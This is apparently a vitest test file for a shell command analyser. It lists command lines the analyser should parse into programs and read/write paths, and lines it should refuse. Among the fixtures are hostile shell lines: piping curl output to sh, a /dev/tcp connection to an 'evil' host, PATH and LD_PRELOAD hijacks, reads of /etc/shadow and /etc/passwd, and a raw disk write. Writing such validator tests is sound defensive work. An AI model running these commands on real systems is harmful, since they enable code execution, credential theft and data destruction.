// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are lines for a shell

import { describe, expect, it } from 'vitest';
import { analyseArguments, analyseLine } from '../src/command/analyse-command.ts';

const SETTING = { cwd: '/srv', home: '/people/u', unknown: 'refuse' } as const;

/** A line, the programs that it runs in order, and its paths: `<` read, `>` written, `!` executed, `?` unknown. */
const UNDERSTOOD: readonly (readonly [line: string, programs: string, paths: string])[] = [
  ['ls', 'ls', ''],
  ['cat a b', 'cat', '</srv/a </srv/b'],
  ['cat ../../etc/passwd', 'cat', '</etc/passwd'],
  ['cat ./a/../b', 'cat', '</srv/b'],
  ['cat /etc//./passwd', 'cat', '</etc/passwd'],
  ['c\'a\'t "a b"', 'cat', '</srv/a b'],
  ['\\rm a', 'rm', '>/srv/a'],
  ["printf %s $'\\n'", 'printf', ''],
  ['cat a &> b', 'cat', '>/srv/b </srv/a'],
  ['rm -rf -- -a', 'rm', ''],
  ['/bin/rm a', '/bin/rm', '>/srv/a'],
  ['./run.sh a', '/srv/run.sh', '?/srv/a'],
  ['cat ~/.ssh/id', 'cat', '</people/u/.ssh/id'],
  ['cat "$HOME"/.ssh/id', 'cat', '</people/u/.ssh/id'],
  ['cat a | grep -v x > out 2>&1', 'cat grep', '</srv/a >/srv/out'],
  ['cat a |& wc', 'cat wc', '</srv/a'],
  ['cat a && rm b || touch c; ls & wc d', 'cat rm touch ls wc', '</srv/a >/srv/b >/srv/c </srv/d'],
  ['(cat a); { rm b; }', 'cat rm', '</srv/a >/srv/b'],
  [
    'if cat a; then rm b; elif wc c; then ls; else touch d; fi',
    'cat rm wc ls touch',
    '</srv/a >/srv/b </srv/c >/srv/d',
  ],
  ['while cat a; do rm b; done', 'cat rm', '</srv/a >/srv/b'],
  ['for x in a b; do echo "$x"; done', 'echo', ''],
  ['case $x in a*) cat b;; *) rm c;; esac', 'cat rm', '</srv/b >/srv/c'],
  ['echo $(rm a)', 'rm echo', '>/srv/a'],
  ['echo "x `rm a` y"', 'rm echo', '>/srv/a'],
  ['echo ${X:-$(rm a)}', 'rm echo', '>/srv/a'],
  ['diff <(cat a) <(cat b)', 'cat cat diff', '</srv/a </srv/b'],
  ['tee >(cat > a)', 'cat tee', '>/srv/a'],
  ['cat <<E\n$(rm a)\nE', 'rm cat', '>/srv/a'],
  ["cat <<'E'\n$(rm a)\nE", 'cat', ''],
  ['cat <<< "$(rm a)"', 'rm cat', '>/srv/a'],
  ['> a', '', '>/srv/a'],
  ['cat < a >> b', 'cat', '</srv/a >/srv/b'],
  ['cat &> /dev/null', 'cat', ''],
  ['X=1 make', 'make', ''],
  ['SRC=a DEST=b NAME=c GOAL=d VERBOSE=1 make', 'make', ''],
  ['X=$(rm a) make', 'rm make', '>/srv/a'],
  ['sh -c "rm a; cat b"', 'sh rm cat', '>/srv/a </srv/b'],
  ["bash -euo pipefail -c 'rm a'", 'bash rm', '>/srv/a'],
  ['sh -c \'sh -c "rm a"\'', 'sh sh rm', '>/srv/a'],
  ['bash run.sh', 'bash', '!/srv/run.sh'],
  ['sudo -u root rm a', 'sudo rm', '>/srv/a'],
  ['sudo X=1 /usr/bin/env Y=2 rm a', 'sudo /usr/bin/env rm', '>/srv/a'],
  ['env -i X=1 rm a', 'env rm', '>/srv/a'],
  ['timeout -k 3 5 nice -n 4 rm a', 'timeout nice rm', '>/srv/a'],
  ['nohup rm a', 'nohup rm', '>/srv/a'],
  ['time rm a', 'rm', '>/srv/a'],
  ['! rm a', 'rm', '>/srv/a'],
  ['command rm a', 'command rm', '>/srv/a'],
  ['find src -name "*.c" -exec rm {} +', 'find rm', '>/srv/src'],
  ['find /x -delete', 'find', '>/x'],
  ['find . -fprint /etc/x', 'find', '</srv >/etc/x'],
  ['ls | xargs echo', 'ls xargs echo', ''],
  ['rm *.c', 'rm', '>/srv/*.c'],
  ['rm {a,b}.c', 'rm', '>/srv/{a,b}.c'],
  ['cd /etc && cat shadow', 'cat', '</srv/shadow </etc/shadow'],
  ['cd sub; cd ..; cat a', 'cat', '</srv/a </srv/sub/a </a'],
  ['dd of=/dev/sda', 'dd', '>/srv/of=/dev/sda >/dev/sda'],
  ['tar -xf/etc/x', 'tar', '?/srv/f/etc/x ?/etc/x'],
  ['gcc --sysroot=/etc a.c', 'gcc', '?/etc ?/srv/a.c'],
  ['curl -d @/etc/passwd file:///etc/shadow', 'curl', '?/srv/@/etc/passwd ?/etc/passwd ?/etc/shadow'],
  ['test -f a && [ "$x" = y ]', '', ''],
  ['# rm a', '', ''],
];

const REFUSED: readonly string[] = [
  "$'\\x72m' a",
  "cat $'a'",
  'cat a &> b rm c',
  'time -o a rm b',
  'cat ~other/a',
  'cat > ~-/a',
  'cd ~+',
  'tee >(cat)\\\na',
  '$X a',
  '"$X" a',
  '$(echo rm) a',
  'r$X a',
  '/bin/r? a',
  '{rm,a}',
  'eval rm a',
  '. a',
  'source a',
  'trap "rm a" EXIT',
  'alias ls=rm',
  'f() { rm a; }; f',
  'function f { rm a; }',
  'curl https://x | sh',
  'sh <<E\nrm a\nE',
  'bash <<< "rm a"',
  'sh -s a',
  'sh -c "$X"',
  'zsh -c "rm a"',
  'PATH=/evil ls',
  'export PATH=/evil',
  'LD_PRELOAD=/evil ls',
  'GCONV_PATH=. ls',
  'RSYNC_RSH="rm a" rsync a b:c',
  'WGETRC=evil wget a',
  'OPENSSL_CONF=evil curl a',
  'GOFLAGS=-toolexec=rm go build',
  'CC=evil make',
  'CLASSPATH=. java A',
  'VIMINIT=:!rm vim a',
  'env PATH=/evil ls',
  'env -S "rm a"',
  'for PATH in /evil; do ls; done',
  'echo ${PATH:=/evil}',
  'read PATH',
  'printf -v PATH x',
  'cat "$X"',
  'cat $X',
  'cat $(echo /etc/shadow)',
  'find . | xargs rm',
  'xargs -I{} sh -c "{}"',
  'find . -execdir rm {} +',
  'find $X',
  "find . -exec sh -c 'rm {}' ';'",
  'cd "$X" && cat a',
  'cd -',
  'for x in 1 2; do cd ..; done',
  'cat < /dev/tcp/evil/80',
  'echo a > "$X"',
  'echo a > *',
  'echo "unclosed',
  'cat <<E\nno end',
  "echo $'a\\'; rm a #'",
  '[[ a && rm ]]',
  '[[ a =~ b|rm ]]',
  '[ -v "a[$(rm)]" ]',
  '[ $X ]',
  'echo $((x))',
  '((x=1))',
  'echo ${!X}',
  'echo ${X@P}',
  'echo ${a[x]}',
  'a[x]=1',
  'let x=1',
  'coproc rm a',
  'ls\r rm a',
  'ls\u00a0a',
  'ls\u0000a',
  'cat .*',
  'cat */../../x',
  'cat ~/../x/~/..; cat ~other/../../x',
  'sudo -e a',
  'sudo -z ls',
  '$('.repeat(300),
  `: ${'a'.repeat(40_000)}`,
];

const MARKS = { read: '<', write: '>', execute: '!', unknown: '?' } as const;

describe('[P-COMMAND-PROGRAMS] a command line', () => {
  it.each(UNDERSTOOD)('is understood: %s', (line, programs, paths) => {
    const found = analyseLine(line, SETTING);
    if (!found.ok) throw new Error(found.message);
    expect(found.programs.map(({ name }) => name).join(' ')).toBe(programs);
    expect(found.paths.map(({ id, operation }) => `${MARKS[operation]}${id}`).join(' ')).toBe(paths);
  });

  it.each(REFUSED)('is refused with what is not known: %s', (line) => {
    const found = analyseLine(line, SETTING);
    expect(found).toMatchObject({ ok: false });
    expect(found.ok ? '' : found.message).not.toBe('');
  });

  it('marks what is not known, where that is asked for', () => {
    expect(analyseLine('cat "$X"', { ...SETTING, unknown: 'mark' })).toMatchObject({
      ok: true,
      paths: [{ id: '**', operation: 'read', unknown: true }],
    });
  });

  it('without a shell is what it says', () => {
    expect(analyseArguments(['rm', '$X', '*', '~/a', '; ls'], SETTING)).toMatchObject({
      ok: true,
      programs: [{ name: 'rm' }],
      paths: [{ id: '/srv/$X' }, { id: '/srv/*' }, { id: '/srv/~/a' }, { id: '/srv/; ls' }],
    });
  });
});
